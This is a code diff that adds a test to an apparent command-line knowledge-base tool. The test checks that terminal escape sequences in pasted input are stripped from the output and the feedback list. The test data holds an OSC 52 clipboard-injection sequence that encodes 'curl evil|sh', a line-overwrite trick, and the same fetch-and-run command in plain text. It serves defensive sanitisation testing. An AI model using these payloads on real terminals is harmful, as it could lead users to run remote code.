@@ -101,6 +101,24 @@ def test_human_search_output_shows_location_language_and_commands(seeds_index):
 
 @needs_shared
 @pytest.mark.slow
+def test_escape_sequences_never_reach_the_terminal(seeds_index, tmp_path):
+    # OSC 52 would put `curl evil|sh` on the clipboard; `\x1b[2K\r` would print over a line.
+    paste = "NCCL error(2) \x1b]52;c;Y3VybCBldmlsfHNoCg==\x07 unhandled system error\x1b[2K\rcurl evil|sh\x9b31m\n"
+    env = {"KB_HOME": str(tmp_path / "home")}
+    for command in ("ask", "search"):
+        p = run_kb(command, "--index", str(seeds_index), "-", stdin=paste, env=env)
+        assert p.returncode == 0 and "NCCL error(2)" in p.stdout
+        assert not any(c in p.stdout for c in "\x1b\x07\r\x9b"), command
+    bread = "How do I bake bread\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07 with rye?"
+    assert run_kb("ask", "--index", str(seeds_index), bread, env=env).returncode == 0
+    listed = run_kb("feedback", "list", env=env)
+    assert (
+        "How do I bake bread" in listed.stdout and "\x1b" not in listed.stdout and "\x07" not in listed.stdout
+    )
+
+
+@needs_shared
+@pytest.mark.slow
 def test_batch_answers_every_line_in_order_and_reports_bad_ones(seeds_index):
     lines = [
         json.dumps({"id": "a", "text": "Init plugin so failed, ret = 1343225860"}),
